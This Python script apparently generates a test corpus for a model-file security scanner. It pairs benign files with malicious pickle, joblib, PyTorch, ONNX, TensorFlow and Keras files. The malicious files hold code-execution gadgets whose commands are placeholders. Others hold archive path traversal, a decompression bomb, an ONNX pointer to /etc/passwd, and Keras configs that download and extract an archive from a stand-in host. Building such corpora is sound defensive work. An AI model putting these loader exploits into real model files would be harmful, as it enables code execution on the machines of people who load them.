#!/usr/bin/env python3
"""Generates the bulwark-scan corpus: malicious/ and benign/ files.

Never loads or executes a malicious file: malicious pickles are built from opcodes by hand or by
pickle.dumps of objects whose __reduce__ names a harmless placeholder command
("echo bulwark-test"); nothing here unpickles them. Usage: make_corpus.py OUTDIR
Optional packages (torch, numpy, onnx, safetensors, joblib, sklearn) add framework files.
"""
import io, json, os, pickle, struct, sys, zipfile

out = sys.argv[1]
M = os.path.join(out, "malicious"); B = os.path.join(out, "benign")
os.makedirs(M, exist_ok=True); os.makedirs(B, exist_ok=True)
CMD = "echo bulwark-test"

EXPECT = {}   # corpus-relative path -> (expectation, rule family, note); see expected_tsv.py

def exp(d, name, verdict, rule="-", note=""):
    EXPECT[os.path.relpath(os.path.join(d, name), out)] = (verdict, rule, note)

def w(d, name, data, verdict=None, rule="-", note=""):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    if verdict: exp(d, name, verdict, rule, note)

def g0(mod, name):  # protocol 0 GLOBAL + REDUCE with one string argument
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n(S'" + CMD.encode() + b"'\ntR."

class Reduce:
    def __init__(self, f, args): self.f, self.args = f, args
    def __reduce__(self): return (self.f, self.args)

import builtins, subprocess, webbrowser, runpy, functools, operator
# 1-6: classic __reduce__ gadgets at several protocols
w(M, "os_system_p0.pkl", g0("os", "system"))
w(M, "posix_system_p2.pkl", g0("posix", "system").replace(b"c", b"\x80\x02c", 1))
w(M, "subprocess_popen_p4.pkl", pickle.dumps(Reduce(subprocess.Popen, ([CMD],)), protocol=4))
w(M, "builtins_eval_p5.pkl", pickle.dumps(Reduce(builtins.eval, ("1+1",)), protocol=5))
w(M, "builtins_exec_p3.pkl", pickle.dumps(Reduce(builtins.exec, ("pass",)), protocol=3))
w(M, "webbrowser_open.pkl", pickle.dumps(Reduce(webbrowser.open, ("http://example.invalid",)), protocol=2))
w(M, "runpy_run_path.pkl", pickle.dumps(Reduce(runpy.run_path, ("/nonexistent",)), protocol=4))
# 7: STACK_GLOBAL with names placed through the memo
sg = (b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + b"\x8c\x02os\x94" + b"\x8c\x06system\x94"
      + b"h\x00h\x01\x93\x8c" + bytes([len(CMD)]) + CMD.encode() + b"\x85R.")
w(M, "stack_global_memo.pkl", sg)
# 8: getattr(__import__('os'), 'system')
ga = (b"\x80\x02cbuiltins\ngetattr\n" + b"cbuiltins\n__import__\nX\x02\x00\x00\x00os\x85R" + b"X\x06\x00\x00\x00system\x86R"
      + b"X" + struct.pack("<I", len(CMD)) + CMD.encode() + b"\x85R.")
w(M, "getattr_import_chain.pkl", ga)
# 9: functools.partial wrapping
w(M, "functools_partial.pkl", pickle.dumps(Reduce(functools.partial, (print, CMD)), protocol=4))
# 10: operator.methodcaller / attrgetter
w(M, "operator_methodcaller.pkl", pickle.dumps(Reduce(operator.methodcaller, ("system", CMD)), protocol=4))
# 11: nested pickle.loads of a malicious pickle held as bytes
w(M, "nested_loads.pkl", pickle.dumps(Reduce(pickle.loads, (g0("os", "system").replace(b"c", b"\x80\x02c", 1),)), protocol=4))
# 12: INST opcode (protocol 0)
w(M, "inst_opcode.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
# 13: OBJ opcode
w(M, "obj_opcode.pkl", b"(cos\nsystem\nS'" + CMD.encode() + b"'\no.")
# 14: concatenated pickles: benign dict then payload
w(M, "concatenated.pkl", pickle.dumps({"a": 1}, protocol=2) + g0("os", "system"))
# 15: extension code (copyreg registry) - unknown callable at scan time
w(M, "ext_code.pkl", b"\x80\x02\x82\x01X\x01\x00\x00\x00x\x85R.")
# 16: malicious object hidden behind a benign-looking tuple with BUILD
w(M, "newobj_build.pkl", b"\x80\x02csubprocess\nPopen\n)\x81}b.")
# 17: NPY object array carrying a malicious pickle
def npy_object(payload):
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload
w(M, "object_array.npy", npy_object(pickle.dumps([Reduce(os.system, (CMD,))], protocol=3)))
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z: z.writestr("arr_0.npy", npy_object(pickle.dumps([Reduce(os.system, (CMD,))], protocol=3)))
w(M, "object_array.npz", zb.getvalue())
# 18: PyTorch-zip layout with a malicious data.pkl (written by hand: torch not needed)
def torch_zip(pkl, name="archive"):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(f"{name}/data.pkl", pkl); z.writestr(f"{name}/version", "3\n"); z.writestr(f"{name}/byteorder", "little")
    return b.getvalue()
w(M, "torch_zip_payload.pt", torch_zip(pickle.dumps(Reduce(os.system, (CMD,)), protocol=2)))
# 19: misleading extension: a pickle named .safetensors, and a .bin
w(M, "disguised.safetensors", g0("os", "system"))
w(M, "pytorch_model.bin", torch_zip(pickle.dumps({"w": Reduce(builtins.eval, ("1",))}, protocol=2), "pytorch_model"))
# 20: Keras v3 zip with a Lambda layer
kb = io.BytesIO()
with zipfile.ZipFile(kb, "w") as z:
    z.writestr("metadata.json", json.dumps({"keras_version": "3.0.0"}))
    z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}}))
    z.writestr("model.weights.h5", b"")
w(M, "lambda.keras", kb.getvalue())
# 21: Keras .h5 with a Lambda layer: written with h5py further below
# 22-24: hostile zips: traversal, bomb declaration (overlapping entries), joblib-like payload in zip
tb = io.BytesIO()
with zipfile.ZipFile(tb, "w") as z:
    z.writestr("archive/data.pkl", pickle.dumps({"a": 1}, protocol=2)); z.writestr("../../etc/evil.pkl", b"x")
w(M, "zip_traversal.pt", tb.getvalue())
bb = io.BytesIO()
with zipfile.ZipFile(bb, "w", zipfile.ZIP_DEFLATED) as z: z.writestr("archive/data.pkl", b"\x80\x02}." + b"\x00" * (50 << 20))
w(M, "zip_bomb.pt", bb.getvalue(), "high", "zip", "deflate bomb: 50 MiB entry at ratio > 200")
# 25: legacy tar checkpoint with a malicious pickle member
import tarfile
tbuf = io.BytesIO()
with tarfile.open(fileobj=tbuf, mode="w", format=tarfile.USTAR_FORMAT) as t:
    for name, data in [("sys_info", pickle.dumps({"protocol_version": 1001}, protocol=2)), ("pickle", pickle.dumps(Reduce(os.system, (CMD,)), protocol=2))]:
        info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
w(M, "legacy_tar.pt", tbuf.getvalue())

# ---------------- benign ----------------
from collections import OrderedDict
w(B, "plain_dict.pkl", pickle.dumps({"lr": 0.1, "layers": [1, 2, 3]}, protocol=4))
w(B, "ordered_dict_p2.pkl", pickle.dumps(OrderedDict(a=1, b=[1.5, "x"]), protocol=2))
w(B, "ints_p0.pkl", pickle.dumps([1, 2, (3, 4), None, True], protocol=0))
try:
    import numpy as np
    np.save(os.path.join(B, "float.npy"), np.arange(12, dtype=np.float32).reshape(3, 4))
    np.savez(os.path.join(B, "arrays.npz"), a=np.ones(3), b=np.zeros((2, 2), dtype=np.int64))
    w(B, "numpy_array.pkl", pickle.dumps(np.arange(5.0), protocol=2))
except ImportError:
    pass
try:
    import torch
    sd = OrderedDict(w=torch.randn(4, 3), b=torch.zeros(4))
    torch.save(sd, os.path.join(B, "state_dict.pt"))
    torch.save(sd, os.path.join(B, "state_dict_legacy.pt"), _use_new_zipfile_serialization=False)
    torch.save(torch.nn.Parameter(torch.ones(2)), os.path.join(B, "parameter.pth"))
except ImportError:
    pass
try:
    from safetensors.numpy import save_file
    import numpy as np
    save_file({"w": np.ones((2, 3), dtype=np.float32), "b": np.zeros(3, dtype=np.float16)}, os.path.join(B, "model.safetensors"))
except ImportError:
    pass
try:
    import onnx
    from onnx import helper, TensorProto, numpy_helper
    import numpy as np
    init = numpy_helper.from_array(np.ones((3, 2), dtype=np.float32), "W")
    g = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], [init])
    m = helper.make_model(g, producer_name="bulwark-corpus")
    onnx.save(m, os.path.join(B, "matmul.onnx"))
    ext = onnx.TensorProto(); ext.CopyFrom(init)
    ext.ClearField("raw_data"); ext.ClearField("float_data"); ext.data_location = onnx.TensorProto.EXTERNAL
    e = ext.external_data.add(); e.key = "location"; e.value = "../../../../etc/passwd"
    g2 = helper.make_graph([helper.make_node("MatMul", ["x", "W"], ["y"])], "g",
                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
                           [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], [ext])
    w(M, "onnx_external_escape.onnx", helper.make_model(g2, producer_name="evil").SerializeToString())
except ImportError:
    pass
try:
    import joblib, numpy as np
    joblib.dump({"coef": np.ones(3)}, os.path.join(B, "dict.joblib"))
    w(M, "joblib_payload.joblib", b"")  # replaced below
    with open(os.path.join(M, "joblib_payload.joblib"), "wb") as f:
        pickle.dump(Reduce(os.system, (CMD,)), f, protocol=4)
    # joblib streams embed numpy arrays after each NumpyArrayWrapper BUILD: payloads placed
    # after raw array bytes, inside an object-dtype array's nested pickle, and in the alignment
    # padding (harmless to joblib.load, which skips it, but run by a plain pickle.load).
    joblib.dump({"coef": np.ones(3), "hook": Reduce(os.system, (CMD,))}, os.path.join(M, "joblib_after_array.joblib"))
    joblib.dump({"names": np.array([Reduce(os.system, (CMD,))], dtype=object)}, os.path.join(M, "joblib_object_array.joblib"))
    plain = g0("os", "system")
    pad = plain + b"." * (ord("c") + 1 - len(plain))      # padding length byte 'c' starts GLOBAL
    wrapper = (b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}(\x8c\x05shape"
               b"K\x01\x85\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02f8\x89\x88\x87R"
               b"(K\x03\x8c\x01<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
               b"\x8c\x05order\x8c\x01C\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray\x93"
               b"\x8c\x1bnumpy_array_alignment_bytesK\x10ub")
    w(M, "joblib_padding_smuggle.joblib", wrapper + b"c" + pad[1:] + struct.pack("<d", 1.0) + b".")
    joblib.dump({"coef": np.ones(3), "names": np.array(["a", "bc"], dtype=object), "t": np.arange(6, dtype=np.int32).reshape(2, 3).T,
                 "u": np.array(["xy", "z"]), "when": np.array(["2024-01-01"], dtype="datetime64[ns]"),
                 "rec": np.zeros(2, dtype=[("a", "f4"), ("b", "i2")]), "empty": np.zeros((0, 4))}, os.path.join(B, "mixed_arrays.joblib"))
    from sklearn.linear_model import LogisticRegression
    clf = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    joblib.dump(clf, os.path.join(B, "logreg.joblib"))
except ImportError:
    pass

# ---------------- TensorFlow SavedModel (hand-encoded protobuf, no tensorflow needed) ----------------
# Field numbers from tensorflow/core/protobuf/{saved_model,meta_graph,saver}.proto and
# tensorflow/core/framework/{graph,node_def,function,op_def,attr_value}.proto.
def varint(n):
    b = bytearray()
    while True:
        x = n & 0x7f; n >>= 7
        b.append(x | (0x80 if n else 0))
        if not n: return bytes(b)
def fld(num, payload):          # length-delimited field
    if isinstance(payload, str): payload = payload.encode()
    return varint(num << 3 | 2) + varint(len(payload)) + payload
def fvar(num, v): return varint(num << 3) + varint(v)
def attr_func(key, fname):      # NodeDef.attr map entry {key, AttrValue{func: NameAttrList{name}}}
    return fld(5, fld(1, key) + fld(2, fld(10, fld(1, fname))))
def attr_str(key, value): return fld(5, fld(1, key) + fld(2, fld(2, value)))
def node(name, op, inputs=(), attrs=b""):
    return fld(1, name) + fld(2, op) + b"".join(fld(3, i) for i in inputs) + attrs
def function(name, nodes):      # FunctionDef{signature: OpDef{name}, node_def}
    return fld(1, fld(1, name)) + b"".join(fld(3, n) for n in nodes)
def saved_model(graph_nodes, functions=(), tags=("serve",), saver=True, user_metadata=()):
    graph = b"".join(fld(1, n) for n in graph_nodes)
    if functions: graph += fld(2, b"".join(fld(1, f) for f in functions))
    graph += fld(4, fvar(1, 1808))                                  # versions{producer}
    meta_info = b"".join(fld(4, t) for t in tags) + fld(5, "2.15.0")  # tags, tensorflow_version
    meta = fld(1, meta_info) + fld(2, graph)
    if saver: meta += fld(3, fld(1, "saver_filename:0") + fld(2, "StatefulPartitionedCall_1:0") + fld(3, "StatefulPartitionedCall_2"))
    if user_metadata:  # object_graph_def{nodes{user_object{identifier, metadata}}}, as TF <= 2.5 wrote Keras layers
        meta += fld(7, b"".join(fld(1, fld(4, fld(1, "_tf_keras_layer") + fld(3, m))) for m in user_metadata))
    return fvar(1, 1) + fld(2, meta)
def savedmodel_dir(d, name, pb, variables=False):
    os.makedirs(os.path.join(d, name), exist_ok=True)
    w(os.path.join(d, name), "saved_model.pb", pb)
    if variables:
        os.makedirs(os.path.join(d, name, "variables"), exist_ok=True)
        w(os.path.join(d, name, "variables"), "variables.index", b"\x00" * 64)
        w(os.path.join(d, name, "variables"), "variables.data-00000-of-00001", struct.pack("<6f", *range(6)))
        w(os.path.join(d, name), "fingerprint.pb", fvar(1, 12345) + fvar(2, 678))
save_fn = function("__inference__traced_save_45", [
    node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"]), node("Const", "Const"),
    node("Select", "Select", ["StaticRegexFullMatch", "Const", "Const_1"]), node("StringJoin", "StringJoin", ["file_prefix", "Select"]),
    node("ShardedFilename", "ShardedFilename", ["StringJoin", "num_shards", "shard"]),
    node("SaveV2", "SaveV2", ["ShardedFilename", "SaveV2/tensor_names", "SaveV2/shape_and_slices", "w"]),
    node("MergeV2Checkpoints", "MergeV2Checkpoints", ["MergeV2Checkpoints/checkpoint_prefixes", "file_prefix"]),
    node("Identity", "Identity", ["file_prefix"])])
restore_fn = function("__inference__traced_restore_60", [
    node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names", "RestoreV2/shape_and_slices"]),
    node("AssignVariableOp", "AssignVariableOp", ["w", "RestoreV2"]), node("NoOp", "NoOp")])
def serve_fn(extra=(), name="__inference_serve_20"):
    return function(name, [node("MatMul/ReadVariableOp", "ReadVariableOp", ["w"]), node("MatMul", "MatMul", ["x", "MatMul/ReadVariableOp"]),
                           node("Identity", "Identity", ["MatMul"])] + list(extra))
wrapper_fn = function("__inference_signature_wrapper_30", [node("PartitionedCall", "StatefulPartitionedCall", ["x"], attr_func("f", "__inference_serve_20"))])
top = [node("saver_filename", "Placeholder"), node("serving_default_x", "Placeholder"),
       node("StatefulPartitionedCall", "StatefulPartitionedCall", ["serving_default_x"], attr_func("f", "__inference_signature_wrapper_30")),
       node("StatefulPartitionedCall_1", "StatefulPartitionedCall", ["saver_filename"], attr_func("f", "__inference__traced_save_45")),
       node("StatefulPartitionedCall_2", "StatefulPartitionedCall", ["saver_filename"], attr_func("f", "__inference__traced_restore_60"))]
savedmodel_dir(B, "savedmodel_tf2", saved_model(top, [wrapper_fn, serve_fn(), save_fn, restore_fn]), variables=True)
tf1 = [node("x", "Placeholder"), node("w", "VariableV2"), node("MatMul", "MatMul", ["x", "w"]),
       node("save/filename", "PlaceholderWithDefault", ["save/Const"]), node("save/Const", "Const"),
       node("save/SaveV2", "SaveV2", ["save/Const", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "w"]),
       node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names", "save/RestoreV2/shape_and_slices"]),
       node("save/Assign", "Assign", ["w", "save/RestoreV2"]), node("save/restore_all", "NoOp")]
savedmodel_dir(B, "savedmodel_tf1", saved_model(tf1))
# malicious: file reads/writes, Python ops, checkpoint ops outside the saver
savedmodel_dir(M, "savedmodel_readfile", saved_model(top, [wrapper_fn, save_fn, restore_fn,
    serve_fn([node("path", "Const"), node("ReadFile", "ReadFile", ["path"])])]))
savedmodel_dir(M, "savedmodel_writefile", saved_model(top + [node("WriteFile", "WriteFile", ["path", "contents"])], [wrapper_fn, serve_fn(), save_fn, restore_fn]))
savedmodel_dir(M, "savedmodel_pyfunc", saved_model(top, [wrapper_fn, save_fn, restore_fn,
    serve_fn([node("EagerPyFunc", "EagerPyFunc", ["x"], attr_str("token", "pyfunc_0"))])]))
savedmodel_dir(M, "savedmodel_restore_in_serving", saved_model(top, [wrapper_fn, save_fn, restore_fn,
    serve_fn([node("RestoreV2", "RestoreV2", ["evil_prefix", "names", "slices"])])]))
savedmodel_dir(M, "savedmodel_calls_saver", saved_model(top, [wrapper_fn, save_fn, restore_fn,
    serve_fn([node("hijack", "StatefulPartitionedCall", ["x"], attr_func("f", "__inference__traced_save_45"))])]))
savedmodel_dir(M, "savedmodel_matching_files_tf1", saved_model(tf1 + [node("glob", "MatchingFiles", ["pattern"])]))
# Keras SavedModel: keras_metadata.pb (keras/protobuf/saved_metadata.proto: SavedMetadata{1 nodes:
# SavedObject{2 node_id, 3 node_path, 4 identifier, 5 metadata JSON}})
def keras_metadata(layers):
    return b"".join(fld(1, fvar(2, i) + fld(3, f"root.layer-{i}") + fld(4, "_tf_keras_layer") + fld(5, json.dumps(l))) for i, l in enumerate(layers))
dense_meta = {"name": "dense", "trainable": True, "class_name": "Dense", "config": {"units": 2}}
lambda_meta = {"name": "lambda", "trainable": True, "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}
savedmodel_dir(B, "keras_savedmodel", saved_model(top, [wrapper_fn, serve_fn(), save_fn, restore_fn], user_metadata=[json.dumps(dense_meta)]))
w(os.path.join(B, "keras_savedmodel"), "keras_metadata.pb", keras_metadata([dense_meta]))
savedmodel_dir(M, "keras_savedmodel_lambda", saved_model(top, [wrapper_fn, serve_fn(), save_fn, restore_fn], user_metadata=[json.dumps(dense_meta), json.dumps(lambda_meta)]))
w(os.path.join(M, "keras_savedmodel_lambda"), "keras_metadata.pb", keras_metadata([dense_meta, lambda_meta]))
try:  # cross-check the hand encoding against TensorFlow's own message definitions when available
    from tensorboard.compat.proto import meta_graph_pb2   # pip install tensorboard protobuf
    for d in (B, M):
        for name in sorted(os.listdir(d)):
            if "savedmodel" not in name: continue
            sm = open(os.path.join(d, name, "saved_model.pb"), "rb").read()
            i, n, shift = 3, 0, 0                             # SavedModel{1: 1, 2: MetaGraphDef}
            while True:
                n |= (sm[i] & 0x7f) << shift; shift += 7; i += 1
                if sm[i - 1] < 0x80: break
            assert sm[:3] == b"\x08\x01\x12" and i + n == len(sm)
            mg = meta_graph_pb2.MetaGraphDef(); mg.ParseFromString(sm[i:])
            assert list(mg.meta_info_def.tags) == ["serve"] and mg.meta_info_def.tensorflow_version == "2.15.0"
            assert mg.graph_def.node[0].op in ("Placeholder",)
            for node in mg.object_graph_def.nodes: assert node.user_object.identifier == "_tf_keras_layer"
    assert mg.graph_def.library.function[0].node_def[0].attr["f"].func.name == "__inference_serve_20"
    print("SavedModel encodings parse as tensorflow MetaGraphDef")
except ImportError:
    pass

# ---------------- Keras HDF5 (h5py) ----------------
try:
    import h5py, numpy as np
    def keras_config(layers):
        return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}})
    dense = [{"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "input_1"}},
             {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}]
    lam = dense + [{"class_name": "Lambda", "config": {"name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAgAAAHICAAAA+gE8bGFtYmRhPgEAAADzAAAAAA==", None, None], "function_type": "lambda"}}]
    def keras_h5(path, config, libver="earliest", fixed=False):
        with h5py.File(path, "w", libver=libver) as f:
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["model_config"] = np.bytes_(config.encode()) if fixed else config
            f.attrs["training_config"] = json.dumps({"loss": "mse"})
            g = f.create_group("model_weights/dense/dense")
            g.create_dataset("kernel:0", data=np.ones((4, 2), dtype=np.float32))
    keras_h5(os.path.join(B, "keras_dense.h5"), keras_config(dense))
    keras_h5(os.path.join(B, "keras_dense_latest.h5"), keras_config(dense), libver="latest")
    keras_h5(os.path.join(M, "lambda.h5"), keras_config(lam))
    keras_h5(os.path.join(M, "lambda_latest_fixed.h5"), keras_config(lam), libver="latest", fixed=True)
    with h5py.File(os.path.join(B, "weights_only.h5"), "w") as f:   # no model_config: unsupported, not clean
        f.create_dataset("w", data=np.zeros(3))
    exp(B, "weights_only.h5", "unsupported", "-", "HDF5 without model_config is not a Keras model")
except ImportError:
    # without h5py keep a minimal signature-only file so the corpus stays complete
    w(M, "lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 56 + json.dumps({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}).encode())
# ================= issue 14: gadgets, containers, malformed files, false-alarm twins =================
import bz2, gzip, lzma, zlib, pathlib, argparse, uuid, decimal, fractions, datetime
def ustr(x):  # SHORT_BINUNICODE, or BINUNICODE past 255 bytes
    b = x.encode()
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)
def framed(body):  # protocol 4 stream with one FRAME, as pickle.dumps writes it
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
def sg_call(module, name, args=(CMD,)):  # STACK_GLOBAL module/name, then REDUCE with string args
    return framed(ustr(module) + ustr(name) + b"\x93" + b"(" + b"".join(ustr(a) for a in args) + b"tR")
def g_call(module, name, proto=4):        # GLOBAL opcode (text names) after PROTO: find_class walks dots from protocol 4
    return bytes([0x80, proto]) + b"c" + module.encode() + b"\n" + name.encode() + b"\n" + ustr(CMD) + b"\x85R."

# ---- 1. gadgets: dotted STACK_GLOBAL names walked with getattr by find_class (protocol >= 4) ----
G = "pickle"
for fname, mod, name, args in [
    ("gadget_torch_utils_hub_load", "torch._utils", "torch.hub.load", ("x/y", "m")),
    ("gadget_torch_utils_sys_modules", "torch._utils", "sys.modules.get", ("os",)),
    ("gadget_torch_rebuild_globals", "torch._utils", "_rebuild_tensor_v2.__globals__.get", ("__builtins__",)),
    ("gadget_torch_serialization_reexport", "torch", "serialization.pickle.loads", ("x",)),
    ("gadget_collections_namedtuple_globals", "collections", "namedtuple.__globals__.get", ("_sys",)),
    ("gadget_collections_ordereddict_init_globals", "collections", "OrderedDict.__init__.__globals__.get", ("__builtins__",)),
    ("gadget_collections_sys_modules", "collections", "_sys.modules.get", ("os",)),
    ("gadget_main_os_system", "__main__", "os.system", (CMD,)),
    ("gadget_main_builtins_eval", "__main__", "__builtins__.eval", ("__import__('os').system('" + CMD + "')",)),
    ("gadget_numpy_testing_os_system", "numpy", "testing._private.utils.os.system", (CMD,)),
    ("gadget_numpy_npyio_pickle_loads", "numpy", "lib.npyio.pickle.loads", ("x",)),
    ("gadget_numpy_ctypeslib_cdll", "numpy", "ctypeslib.ctypes.CDLL", ("libc.so.6",)),
    ("gadget_builtins_object_subclasses", "builtins", "object.__subclasses__", ()),
    ("gadget_builtins_type_subclasses", "builtins", "dict.__class__.__subclasses__", ()),
    ("gadget_builtins_dict_fromkeys_globals", "builtins", "dict.__init__.__self__.__class__", ()),
    ("gadget_copyreg_reconstructor_globals", "copyreg", "_reconstructor.__globals__.get", ("__builtins__",)),
    ("gadget_datetime_sys_modules", "datetime", "sys.modules.get", ("os",)),
    ("gadget_posixpath_os_system", "posixpath", "os.system", (CMD,)),
    ("gadget_numpy_dtype_getattribute", "numpy", "dtype.__getattribute__", ("x",)),
]:
    w(M, fname + ".pkl", sg_call(mod, name, args), "malicious", G, f"STACK_GLOBAL {mod} {name}")
w(M, "gadget_global_opcode_dotted_p4.pkl", g_call("torch._utils", "sys.modules.get"), "malicious", G, "GLOBAL with a dotted name after PROTO 4")
w(M, "gadget_binunicode8_names.pkl", framed(b"\x8d" + struct.pack("<Q", 9) + b"posixpath" + b"\x8d" + struct.pack("<Q", 9) + b"os.system" + b"\x93" + ustr(CMD) + b"\x85R"),
  "malicious", G, "BINUNICODE8 module/name strings")
w(M, "gadget_inst_dotted_p4.pkl", b"\x80\x04(" + ustr(CMD) + b"iposixpath\nos.system\n.", "malicious", G, "INST with a dotted name after PROTO 4")
w(M, "gadget_obj_dotted_p4.pkl", b"\x80\x04(" + ustr("collections") + ustr("_sys.modules.get") + b"\x93" + ustr("os") + b"o.", "malicious", G, "OBJ calling a STACK_GLOBAL walk")
w(M, "gadget_memo_dotted_p5.pkl", b"\x80\x05" + ustr("builtins") + b"\x940" + ustr("type.__subclasses__") + b"\x940" + b"h\x00h\x01\x93)R.", "malicious", G, "dotted name through MEMOIZE/BINGET")
w(M, "gadget_long_binput_dotted.pkl", b"\x80\x04" + ustr("torch._utils") + b"r\x00\x01\x00\x000" + ustr("_rebuild_tensor.__globals__.get") + b"r\x01\x01\x00\x000" + b"j\x00\x01\x00\x00j\x01\x01\x00\x00\x93" + ustr("__builtins__") + b"\x85R.", "malicious", G, "dotted name through LONG_BINPUT/LONG_BINGET")
# dangerous callables re-exported by modules that are not on a deny list
for fname, mod, name in [("reexport_pydoc_pipepager", "pydoc", "pipepager"), ("reexport_profile_run", "profile", "run"),
                         ("reexport_cprofile_run", "cProfile", "run"), ("reexport_posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec"),
                         ("reexport_doctest_debug_script", "doctest", "debug_script"), ("reexport_ensurepip_run_pip", "ensurepip", "_run_pip"),
                         ("reexport_torch_load", "torch", "load"), ("reexport_numpy_load", "numpy", "load"),
                         ("reexport_pandas_read_pickle", "pandas", "read_pickle"), ("reexport_uuid_get_command_stdout", "uuid", "_get_command_stdout"),
                         ("reexport_trace_runctx", "trace", "Trace.runctx"), ("reexport_frozen_importlib_call", "_frozen_importlib", "_call_with_frames_removed")]:
    w(M, fname + ".pkl", g_call(mod, name, proto=2) if "." not in name else sg_call(mod, name), "malicious", G, f"{mod}.{name}")
# benign twins: the same opcode shapes naming allow-listed constructors
w(B, "stack_global_ordered_dict_p4.pkl", framed(ustr("collections") + ustr("OrderedDict") + b"\x93)R"))
w(B, "global_opcode_p4_ordered_dict.pkl", b"\x80\x04ccollections\nOrderedDict\n)R.")
w(B, "stack_global_memo_ordered_dict.pkl", framed(ustr("collections") + b"\x940" + ustr("OrderedDict") + b"\x940h\x00h\x01\x93)R"))

# ---- Keras configs: functions and modules outside keras (CVE-2025-1550 / -8747 / -9906 patterns) ----
K = "keras"
def keras_zip(config, name):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.10.0", "date_saved": "2025-07-01@00:00:00"}))
        z.writestr("config.json", json.dumps(config)); z.writestr("model.weights.h5", b"")
    return b.getvalue()
def seq(*layers):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "trainable": True, "dtype": "float32",
            "layers": [{"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}, "registered_name": None}] + list(layers)},
            "registered_name": None, "build_config": {"input_shape": [None, 4]}}
def dense(activation="relu"):
    return {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": activation, "use_bias": True}, "registered_name": None}
def fn(module, name): return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}
get_file_layer = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": fn("keras.utils", "get_file")},
                  "registered_name": None, "inbound_nodes": [{"args": [], "kwargs": {"fname": "x.tar.gz", "origin": "http://example.invalid/x.tar.gz", "extract": True, "cache_dir": "/tmp/bulwark-test"}}]}
keras_cases = {
    "keras_get_file.keras": seq(get_file_layer),
    "keras_get_file_src_module.keras": seq(dense(fn("keras.src.utils.file_utils", "get_file"))),
    "keras_load_model_unsafe.keras": seq(dense(fn("keras.models", "load_model"))),
    "keras_saving_load_model.keras": seq(dense(fn("keras.saving", "load_model"))),
    "keras_enable_unsafe_deserialization.keras": seq(dense(fn("keras.config", "enable_unsafe_deserialization")), {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}}}),
    "keras_set_global_attribute.keras": seq(dense(fn("keras.src.saving.serialization_lib", "set_global_attribute"))),
    "keras_module_os_system.keras": seq(dense(fn("os", "system"))),
    "keras_module_subprocess_class.keras": seq({"module": "subprocess", "class_name": "Popen", "config": {"args": CMD}, "registered_name": None}),
    "keras_module_builtins_exec.keras": seq(dense(fn("builtins", "exec"))),
    "keras_module_posix_dotted.keras": seq(dense(fn("keras.src.utils.file_utils", "os.system"))),
    "keras_lambda_in_timedistributed.keras": seq({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lam", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA", "defaults": None, "closure": None}}}, "registered_name": None}}, "registered_name": None}),
}
for name, cfg in keras_cases.items(): w(M, name, keras_zip(cfg, name), "malicious", K, "config.json")
w(B, "keras_function_activation.keras", keras_zip(seq(dense(fn("keras.activations", "relu")), dense("softmax")), ""))
w(B, "keras_plain_dense.keras", keras_zip(seq(dense(), dense("linear")), ""))
try:
    import h5py, numpy as np
